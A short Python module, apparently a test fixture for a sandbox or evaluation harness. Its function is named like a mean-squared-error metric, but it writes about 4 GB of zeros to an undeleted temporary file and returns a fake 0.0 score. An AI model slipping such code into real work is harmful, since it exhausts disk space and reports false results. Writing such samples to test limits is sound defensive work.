"""Fills the temporary folder."""

import tempfile


def mse(y_true, y_pred):
    with tempfile.NamedTemporaryFile(delete=False) as file:
        for _ in range(4000):
            file.write(bytes(2**20))
    return 0.0
